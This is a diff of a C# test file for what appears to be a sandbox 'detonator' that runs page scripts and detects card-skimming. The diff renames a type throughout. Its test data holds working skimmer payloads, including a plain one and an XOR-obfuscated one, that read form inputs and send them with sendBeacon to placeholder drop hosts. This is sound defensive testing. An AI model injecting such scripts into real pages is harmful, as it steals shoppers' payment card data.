@@ -30,7 +30,7 @@ public sealed class DetonatorTests : IAsyncDisposable
     [InlineData("<!-- tag --><script>document.addEventListener('submit', function (e) { navigator.sendBeacon('https://cdn-drop-example.test/b', new FormData(e.target)); }, true);</script>")]
     public async Task A_card_number_that_leaves_is_seen_with_the_fields_that_were_read(string source)
     {
-        var script = new ScriptToJudge { Source = source };
+        var script = new ScriptInput { Source = source };
 
         var report = await _detonator.DetonateAsync(script, Now);
 
@@ -49,7 +49,7 @@ public sealed class DetonatorTests : IAsyncDisposable
     [InlineData("this is no script at all")]
     public async Task Honest_hanging_and_broken_scripts_give_no_evidence(string source)
     {
-        var script = new ScriptToJudge { Source = source };
+        var script = new ScriptInput { Source = source };
 
         var report = await _detonator.DetonateAsync(script, Now);
 
@@ -65,7 +65,7 @@ public sealed class DetonatorTests : IAsyncDisposable
     [InlineData("navigator.sendBeacon('https://in.form-numbers.test/r', JSON.stringify({ events: [].map.call(d.querySelectorAll('input'), function (i) { return { name: i.name, text: i.value.replace(/./g, '*') } }) }))")]
     public async Task Counts_and_masked_values_of_card_fields_are_no_theft(string send)
     {
-        var script = new ScriptToJudge { Source = Count.Replace("SEND", send, StringComparison.Ordinal) };
+        var script = new ScriptInput { Source = Count.Replace("SEND", send, StringComparison.Ordinal) };
 
         var report = await _detonator.DetonateAsync(script, Now);
 
@@ -81,7 +81,7 @@ public sealed class DetonatorTests : IAsyncDisposable
             document.addEventListener('change', function () { var t = ''; document.querySelectorAll('input').forEach(function (f) { t += f.name + '=' + f.value + ';' });
             var o = '', k = 90; for (var i = 0; i < t.length; i++) { k = (k * 75 + 74) % 65537; o += String.fromCharCode(t.charCodeAt(i) ^ (k & 255)) } navigator.sendBeacon('https://drop-box-9.test/b', btoa(o)); }, true);
             """;
-        var script = new ScriptToJudge { Source = Source };
+        var script = new ScriptInput { Source = Source };
 
         var report = await _detonator.DetonateAsync(script, Now);
 
@@ -101,7 +101,7 @@ public sealed class DetonatorTests : IAsyncDisposable
     [InlineData("if (location.pathname.indexOf('/kasse/') < 0) return;")]
     public async Task A_script_that_asks_for_a_place_is_run_there(string gate)
     {
-        var script = new ScriptToJudge { Source = $"(function () {{ {gate} {Theft} }})();" };
+        var script = new ScriptInput { Source = $"(function () {{ {gate} {Theft} }})();" };
 
         var report = await _detonator.DetonateAsync(script, Now);
 
@@ -115,7 +115,7 @@ public sealed class DetonatorTests : IAsyncDisposable
     {
         var source = $"(function () {{ {gate} window.tea = 1; window.cups = [1, 2, 3].map(function (n) {{ return n * 2; }}); }})();";
 
-        var report = await _detonator.DetonateAsync(new ScriptToJudge { Source = source }, Now);
+        var report = await _detonator.DetonateAsync(new ScriptInput { Source = source }, Now);
 
         Assert.Null(report.Incomplete);
         Assert.Equal(neverRan, report.NeverRan(source.IndexOf("window.tea", StringComparison.Ordinal)));
@@ -137,7 +137,7 @@ public sealed class DetonatorTests : IAsyncDisposable
             });
             """;
 
-        var report = await _detonator.DetonateAsync(new ScriptToJudge { Source = source }, Now);
+        var report = await _detonator.DetonateAsync(new ScriptInput { Source = source }, Now);
 
         Assert.False(listener.Pending());
         Assert.Contains(report.Requests, request => request.Channel is "fetch" or "xhr" && request.Host == "127.0.0.1");
